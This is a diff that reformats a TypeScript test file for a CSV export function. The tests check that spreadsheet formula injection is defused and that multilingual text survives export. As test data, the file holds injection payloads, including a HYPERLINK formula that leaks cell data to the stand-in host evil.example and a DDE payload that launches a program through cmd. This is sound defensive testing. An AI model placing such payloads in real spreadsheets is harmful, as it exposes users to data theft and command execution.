@@ -16,7 +16,7 @@ function cells(csv: string): string[][] {
 describe("toCsv: formula injection (OWASP)", () => {
   it("defuses participant answers that a spreadsheet would run as formulas", () => {
     const answers = [
-      "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
       "+1+cmd|' /C calc'!A0",
       "-2+3",
       "@SUM(1,2)",
@@ -31,14 +31,24 @@ describe("toCsv: formula injection (OWASP)", () => {
       "-1+2",
       "-5",
     ];
-    const out = cells(toCsv(answers.map((a) => ({ answer: a })), { bom: false }));
+    const out = cells(
+      toCsv(
+        answers.map((a) => ({ answer: a })),
+        { bom: false },
+      ),
+    );
     expect(out[0]).toEqual(["answer"]);
     expect(out.slice(1).map((r) => r[0])).toEqual(answers.map((a) => `'${a}`));
   });
 
   it("leaves ordinary text alone, including text with = or - later on", () => {
     const safe = ["We said, you did", "a=b", "2-3 times a week", "email me@example.org", "'already quoted", ""];
-    const out = cells(toCsv(safe.map((a) => [a]), { bom: false }));
+    const out = cells(
+      toCsv(
+        safe.map((a) => [a]),
+        { bom: false },
+      ),
+    );
     expect(out.map((r) => r[0])).toEqual(safe);
   });
 
@@ -60,7 +70,7 @@ describe("toCsv: formula injection (OWASP)", () => {
 
 describe("toCsv: text survives intact", () => {
   const rows = [
-    { id: 1, quote: "شكراً لكم على الدعم، \"كل شيء\" أفضل الآن" },
+    { id: 1, quote: 'شكراً لكم على الدعم، "كل شيء" أفضل الآن' },
     { id: 2, quote: "Dw i'n hapus iawn yn Abertawe — ŵ ŷ Ŵ Ŷ" },
     { id: 3, quote: "Line one\r\nline two\nline three" },
     { id: 4, quote: 'She said "yes", then, "no"' },
@@ -93,11 +103,23 @@ describe("toCsv: shape", () => {
 
   it("does not drop a key that only later rows have", () => {
     const out = cells(toCsv([{ a: 1 }, { a: 2, later: "x" }], { bom: false }));
-    expect(out).toEqual([["a", "later"], ["1", ""], ["2", "x"]]);
+    expect(out).toEqual([
+      ["a", "later"],
+      ["1", ""],
+      ["2", "x"],
+    ]);
   });
 
   it("writes array rows with an optional header", () => {
-    expect(toCsv([[1, "=a"], [null, undefined]], { bom: false })).toBe('"1","\'=a"\r\n"",""\r\n');
+    expect(
+      toCsv(
+        [
+          [1, "=a"],
+          [null, undefined],
+        ],
+        { bom: false },
+      ),
+    ).toBe('"1","\'=a"\r\n"",""\r\n');
     expect(toCsv([[1, 2]], { columns: ["x", "y"], bom: false })).toBe('"x","y"\r\n"1","2"\r\n');
   });
 
